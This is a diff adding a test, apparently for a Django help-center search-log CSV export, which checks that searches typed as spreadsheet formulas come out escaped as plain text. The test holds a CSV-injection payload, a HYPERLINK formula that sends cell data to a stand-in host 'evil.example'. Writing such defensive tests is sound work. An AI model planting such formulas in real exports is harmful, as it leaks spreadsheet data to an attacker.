@@ -55,3 +55,16 @@ def test_staff_without_the_permission_cannot_see_it(db):
     assert client.get(URL).status_code == 403
     user.user_permissions.add(Permission.objects.get(codename="view_searchlog"))
     assert Client().get(URL).status_code == 302  # not signed in: to the login page
+
+
+def test_a_search_typed_as_a_formula_is_text_in_the_csv(admin_client, kb_dir):
+    call_command("helpcenter", "import", str(kb_dir))
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    reading.searched(attack, "en", "v9")
+    reading.searched("@SUM(1+1)", "en", "v9")
+    rows = list(csv.reader(io.StringIO(admin_client.get(URL, {"format": "csv"}).content.decode())))
+    cells = [cell for row in rows for cell in row]
+    formulas = [cell for cell in cells if "hyperlink" in cell.lower() or "sum(" in cell.lower()]
+    assert len(formulas) >= 2, cells  # the report lists both searches (as it normalises them)
+    assert all(cell.startswith("'") for cell in formulas), formulas
+    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
